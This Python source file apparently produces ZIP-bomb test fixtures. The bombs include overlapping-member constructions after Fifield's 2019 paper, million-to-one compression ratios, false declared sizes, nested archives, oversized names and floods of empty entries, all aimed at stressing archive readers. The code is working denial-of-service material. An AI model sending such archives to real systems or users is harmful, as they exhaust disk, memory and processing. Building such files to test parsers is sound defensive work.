"""Bombs in a ZIP: data that overlap, data that expand, names, and directories of nothing."""

from __future__ import annotations

import bz2
import io
import itertools
import lzma
import struct
import zipfile
import zlib
from collections.abc import Iterable, Iterator
from pathlib import Path

import zstandard
from zipmaker import BZIP2, DEFLATE, LZMA, METHODS, STORED, XZ, ZSTD, Entry, make, unicode_path

from bombs.bomb import bomb

_CHUNK = 1 << 20


def _local(name: bytes, method: int, crc: int, compressed: int, size: int) -> bytes:
    return struct.pack("<4s5H3L2H", b"PK\3\4", 20, 0, method, 0, 33, crc, compressed, size, len(name), 0) + name


def _central(name: bytes, method: int, crc: int, compressed: int, size: int, offset: int) -> bytes:
    fields = 20, 20, 0, method, 0, 33, crc, compressed, size, len(name), 0, 0, 0, 0, 0, offset
    return struct.pack("<4s6H3L5H2L", b"PK\1\2", *fields) + name


def _end(count: int, size: int, offset: int) -> bytes:
    """The end records, with those of ZIP64 where there are too many for the others."""
    more = b""
    if count >= 0xFFFF or offset >= 0xFFFFFFFF or size >= 0xFFFFFFFF:
        more = struct.pack("<4sQ2H2L4Q", b"PK\6\6", 44, 45, 45, 0, 0, count, count, size, offset)
        more += struct.pack("<4sLQL", b"PK\6\7", 0, offset + size, 1)
    short = min(count, 0xFFFF), min(count, 0xFFFF), min(size, 0xFFFFFFFF), min(offset, 0xFFFFFFFF)
    return more + struct.pack("<4s2H2H2LH", b"PK\5\6", 0, 0, *short, 0)


def _write(path: Path, body: Iterable[bytes], directory: Iterable[bytes]) -> None:
    with path.open("wb") as file:
        file.writelines(body)
        begin, count = file.tell(), 0
        for entry in directory:
            file.write(entry)
            count += 1
        size = file.tell() - begin
        file.write(_end(count, size, begin))


def _zeros(size: int) -> Iterator[bytes]:
    block = bytes(_CHUNK)
    for at in range(0, size, _CHUNK):
        yield block[: size - at]


def _deflated_zeros(size: int) -> bytes:
    """The most that deflate can do: 1032 to 1."""
    compressor = zlib.compressobj(9, wbits=-15)
    return b"".join(map(compressor.compress, _zeros(size))) + compressor.flush()


# Data that overlap: the constructions of David Fifield, A better zip bomb (WOOT 2019)


@bomb("zip", full=65_534, small=2000, action="test")
def full_overlap(path: Path, n: int) -> None:
    """Entries of one name that all mean one member of 16 MiB."""
    data = _deflated_zeros(16 << 20)
    fields = b"a", DEFLATE, zlib.crc32(bytes(16 << 20)), len(data), 16 << 20
    _write(path, (_local(*fields), data), itertools.repeat(_central(*fields, 0), n))


_POLYNOMIAL = 0xEDB88320


def _times(a: int, b: int) -> int:
    """Multiply modulo the polynomial of CRC-32, bits reflected."""
    product = 0
    for shift in range(31, -1, -1):
        if a >> shift & 1:
            product ^= b
        b = b >> 1 ^ _POLYNOMIAL * (b & 1)
    return product


def _zeros_behind(count: int) -> int:
    """What a CRC-32 is multiplied with for so many bytes that come after it: x to the power of eight times them."""
    result, square = 1 << 31, 1 << 23
    while count:
        if count & 1:
            result = _times(square, result)
        square, count = _times(square, square), count >> 1
    return result


def _quoted(path: Path, n: int, kernel: int) -> None:
    """Each member quotes, in a stored block, the local header of the next, and goes on with that one's data."""
    data = _deflated_zeros(kernel)
    crc = 0
    for block in _zeros(kernel):
        crc = zlib.crc32(block, crc)
    name = b"%08x"
    length = 30 + len(name % 0)
    behind, step = _zeros_behind(kernel), _zeros_behind(length)
    compressed, size = len(data), kernel
    parts = [data]
    rows = []
    for i in range(n - 1, -1, -1):
        fields = name % i, DEFLATE, crc, compressed, size
        header = _local(*fields)
        rows.append((fields, (length + 5) * i))
        parts.append(header)
        if i:
            parts.append(struct.pack("<BHH", 0, length, length ^ 0xFFFF))
            crc ^= _times(behind, zlib.crc32(header))
            behind = _times(behind, step)
            compressed, size = compressed + 5 + length, size + length
    _write(path, reversed(parts), (_central(*fields, offset) for fields, offset in reversed(rows)))


@bomb("zip", full=250, small=250, action="test")
def quoted_overlap(path: Path, n: int) -> None:
    """Members that quote the header of the next (zbsm.zip)."""
    _quoted(path, n, 21 << 20)


@bomb("zip", full=65_534, small=5000, action="test", factor=16)
def giant_kernel(path: Path, n: int) -> None:
    """Members that quote the header of the next, and a kernel of 1 GiB at their end (zblg.zip)."""
    _quoted(path, n, 1 << 30 if n > 10_000 else 64 << 20)


@bomb("zip", full=150_000, small=66_000, action="test", factor=16)
def more_than_65535(path: Path, n: int) -> None:
    """Members that quote the header of the next, with ZIP64 (zbxl.zip)."""
    _quoted(path, n, 64 << 20)


# Data that expand


def _one(path: Path, method: int, payload: bytes, size: int) -> None:
    crc = 0
    for block in _zeros(size):
        crc = zlib.crc32(block, crc)
    path.write_bytes(make(Entry(b"zeros", b"", method, payload, crc=crc, size=size)))


@bomb("zip", full=4095 << 20, small=160 << 20, action="test")
def deflate_ratio(path: Path, n: int) -> None:
    """Bytes of zero, deflated 1032 to 1."""
    _one(path, DEFLATE, _deflated_zeros(n), n)


@bomb("zip", full=1024 << 20, small=140 << 20, action="test")
def bzip2_ratio(path: Path, n: int) -> None:
    """Bytes of zero in bzip2, a million to one."""
    compressor = bz2.BZ2Compressor()
    _one(path, BZIP2, b"".join(map(compressor.compress, _zeros(n))) + compressor.flush(), n)


@bomb("zip", full=1024 << 20, small=140 << 20, action="test")
def xz_ratio(path: Path, n: int) -> None:
    """Bytes of zero in xz."""
    compressor = lzma.LZMACompressor(lzma.FORMAT_XZ, preset=0)
    _one(path, XZ, b"".join(map(compressor.compress, _zeros(n))) + compressor.flush(), n)


@bomb("zip", full=1024 << 20, small=140 << 20, action="test")
def lzma_ratio(path: Path, n: int) -> None:
    """Bytes of zero in LZMA."""
    filters = [{"id": lzma.FILTER_LZMA1, "preset": 0, "dict_size": 1 << 16}]
    compressor = lzma.LZMACompressor(lzma.FORMAT_RAW, filters=filters)
    head = struct.pack("<2BHBL", 9, 20, 5, 93, 1 << 16)
    _one(path, LZMA, head + b"".join(map(compressor.compress, _zeros(n))) + compressor.flush(), n)


@bomb("zip", full=4095 << 20, small=160 << 20, action="test")
def zstd_ratio(path: Path, n: int) -> None:
    """Bytes of zero in zstd."""
    compressor = zstandard.ZstdCompressor().compressobj()
    _one(path, ZSTD, b"".join(map(compressor.compress, _zeros(n))) + compressor.flush(), n)


@bomb("zip", full=1 << 62, small=1 << 62, action="test")
def declared_size(path: Path, n: int) -> None:
    """Bytes that each of some members says that it has."""
    entries = [Entry(b"%d" % m, b"x", m, size=n, zip64=["size"]) for m in METHODS for _ in range(2)]
    path.write_bytes(make(*entries))


@bomb("zip", full=6, small=4, action="test")
def nested(path: Path, n: int) -> None:
    """Archives in archives, 16 in each (42.zip), around 16 MiB."""
    data, name = bytes(16 << 20), "zeros"
    for _ in range(n):
        file = io.BytesIO()
        with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as writer:
            for i in range(16):
                writer.writestr(f"{name}-{i:x}", data)
        data, name = file.getvalue(), "zip"
    path.write_bytes(data)


# Names


def _empty(names: Iterable[bytes]) -> bytes:
    return make(*(Entry(name, b"") for name in names))


@bomb("zip", full=2000, small=100)
def long_names(path: Path, n: int) -> None:
    """Names of 65,535 bytes."""
    path.write_bytes(_empty(b"%07d" % i + b"n" * 65_528 for i in range(n)))


@bomb("zip", full=2000, small=100)
def deep_names(path: Path, n: int) -> None:
    """Names of 32,763 folders, each in the one before."""
    path.write_bytes(_empty(b"a/" * 32_763 + b"%07d" % i for i in range(n)))


@bomb("zip", full=2_000_000, small=100_000, factor=6)
def equal_names(path: Path, n: int) -> None:
    """Members of one name."""
    fields = b"same", STORED, 0, 0, 0
    _write(path, (_local(*fields),), itertools.repeat(_central(*fields, 0), n))


@bomb("zip", full=500, small=20)
def unicode_paths(path: Path, n: int) -> None:
    """Names of 65,520 bytes, each with 7,280 fields that have its checksum."""
    names = (b"%06d" % i + b"n" * 65_514 for i in range(n))
    path.write_bytes(make(*(Entry(name, b"", extra=unicode_path(b"", name) * 7280) for name in names)))


# Directories of nothing


@bomb("zip", full=10_000_000, small=300_000, factor=6)
def empty_members(path: Path, n: int) -> None:
    """Members of nothing, all at one place."""
    local = _local(b"%07d" % 0, STORED, 0, 0, 0)
    directory = (_central(b"%07d" % i, STORED, 0, 0, 0, 0) for i in range(n))
    _write(path, (local,), directory)


@bomb("zip", full=200 << 20, small=8 << 20)
def end_records(path: Path, n: int) -> None:
    """Bytes of nothing but signatures of end records, before an archive, and in its comment."""
    whole = make(Entry(), comment=b"PK\5\6" * 16_000)
    with path.open("wb") as file:
        for _ in range(n >> 20):
            file.write(b"PK\5\6" * (1 << 18))
        file.write(whole)
